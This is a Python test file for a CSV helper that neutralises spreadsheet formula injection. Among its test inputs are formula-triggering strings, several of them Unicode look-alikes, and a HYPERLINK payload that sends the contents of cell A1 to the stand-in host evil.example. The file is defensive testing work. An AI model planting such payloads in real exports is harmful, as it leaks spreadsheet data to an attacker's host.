"""The one CSV writer: what it neutralises, what it leaves alone, and that it is the only one."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from web import config
from web.services.csvsafe import csv_writer, safe_cell


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+33 1 23",
        "-2+3",
        "@SUM(A1)",
        "\t=1+2",
        "\r=1+2",
        " =1+2",  # a leading space, which a lenient spreadsheet trims
        "\u00a0=1+2",  # a no-break space
        "\n=1+2",
        "＝1+2",  # full-width equals
        "＋1",  # full-width plus
        "－1",  # full-width hyphen-minus
        "＠SUM(A1)",  # full-width at
        "﹦1+2",  # small equals
        "⩵1+2",  # two equals signs in one character
        " =\u0338A1",  # an equals sign with a combining mark after it
    ],
)
def test_a_text_cell_that_could_start_a_formula_gets_a_leading_quote(hostile: str) -> None:
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain", ["", "Élodie Lefèvre", "4127", "THE-SENCHA-100", "a=b", "x-1", "'quoted", "’=1"]
)
def test_plain_text_is_written_as_it_is(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_our_own_numbers_stay_numbers() -> None:
    assert safe_cell(Decimal("-12.50")) == "-12.50"
    assert safe_cell(Decimal("20.0000").normalize()) == "20"  # never "2E+1"
    assert safe_cell(-3) == "-3"
    assert safe_cell(None) == ""
    assert safe_cell("-12.50") == "'-12.50"  # the same characters, as text from outside
    assert (safe_cell(True), safe_cell(False)) == ("true", "false")


def test_the_writer_takes_the_csv_options_and_neutralises_every_row() -> None:
    out = io.StringIO()
    csv_writer(out, delimiter=";", lineterminator="\n").writerows([["=1", "a"], ["b", "@x"]])
    assert out.getvalue() == "'=1;a\nb;'@x\n"


def test_the_writer_quotes_cells_the_csv_way_after_neutralising() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(['=HYPERLINK("x","y")', Decimal("-1.00"), "plain, with comma"])
    assert out.getvalue() == '"\'=HYPERLINK(""x"",""y"")",-1.00,"plain, with comma"\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == '\'=HYPERLINK("x","y")'


def test_every_csv_in_the_application_is_written_through_csvsafe() -> None:
    """A new export (documents, accounting…) that opens its own csv.writer fails here."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\b|from csv import")
    offenders = [
        str(path.relative_to(config.PROJECT_ROOT))
        for root in ("web", "sync_lambdas")
        for path in (config.PROJECT_ROOT / root).rglob("*.py")
        if path.name != "csvsafe.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
